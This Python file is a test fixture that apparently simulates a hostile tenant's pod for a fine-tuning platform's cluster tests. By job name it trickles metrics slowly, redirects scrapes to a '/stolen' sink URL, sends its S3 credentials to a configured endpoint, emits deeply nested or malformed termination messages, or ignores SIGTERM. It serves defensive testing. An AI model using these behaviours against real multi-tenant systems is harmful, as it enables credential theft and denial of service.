"""A STAND-IN for the trainer (not kubetune's trainer): what a hostile tenant's
pod could do, chosen by the FineTuneJob's name, for tests/cluster/test_hostile_tenant.py.
Training itself is not what those tests are about, so none happens here.

  trickle-*      serves /metrics on $POD_IP:9400 one byte every 1.5 s, forever
  redirect-*     answers /metrics with a redirect to $KUBETUNE_SINK_URL, forever
  s3-*           sends its S3 key to $AWS_ENDPOINT_URL (lists buckets), then ends
  badlist-*      ends with the termination message {"metrics": [1]}
  baddeep-*      ends with 4000 nested brackets as its termination message
  sleep-*        waits for SIGTERM
  anything else  ends at once with a well-formed report (an instant trainer)
"""

from __future__ import annotations

import json
import os
import signal
import socket
import sys
import threading
import time

JOB = os.environ.get("KUBETUNE_JOB", "")
NAMESPACE = os.environ.get("KUBETUNE_NAMESPACE", "")
TERMINATION = "/dev/termination-log"


def report(adapter: str) -> dict:
    return {"reason": "Completed", "message": "stand-in: no training", "step": 1, "totalSteps": 1,
            "metrics": {"trainLoss": 1.0}, "checkpoint": {"uri": None, "step": None}, "output": {"adapterUri": adapter}}


def serve(answer) -> None:
    """Answer every connection on $POD_IP:9400 with `answer(conn)`, until killed."""
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind((os.environ.get("POD_IP") or "127.0.0.1", 9400))
    server.listen(64)
    while True:
        conn, _ = server.accept()
        threading.Thread(target=_one, args=(conn, answer), daemon=True).start()


def _one(conn, answer) -> None:
    try:
        conn.recv(4096)
        answer(conn)
    except OSError:
        pass
    finally:
        conn.close()


def trickle(conn) -> None:
    conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\n")
    while True:
        conn.sendall(b"#")
        time.sleep(1.5)


def redirect(conn) -> None:
    conn.sendall(f"HTTP/1.0 302 Found\r\nLocation: {os.environ['KUBETUNE_SINK_URL']}/stolen\r\nContent-Length: 0\r\n\r\n".encode())


def main() -> int:
    if JOB.startswith("trickle-"):
        serve(trickle)
    if JOB.startswith("redirect-"):
        serve(redirect)
    if JOB.startswith("s3-"):
        import boto3

        try:
            boto3.client("s3").list_buckets()
        except Exception as exc:  # noqa: BLE001 - the sink is no S3; the request went out all the same
            print(f"stand-in: S3 said {type(exc).__name__}", file=sys.stderr)
    if JOB.startswith("sleep-"):
        signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM})
        signal.sigwait({signal.SIGTERM})
        return 143
    text = {"badlist-": '{"metrics": [1]}', "baddeep-": "[" * 4000}.get(JOB[:JOB.find("-") + 1])
    with open(TERMINATION, "w") as fh:
        fh.write(text if text is not None else json.dumps(report(f"s3://stand-in/{NAMESPACE}/{JOB}/output/adapter")))
    return 0


if __name__ == "__main__":
    sys.exit(main())
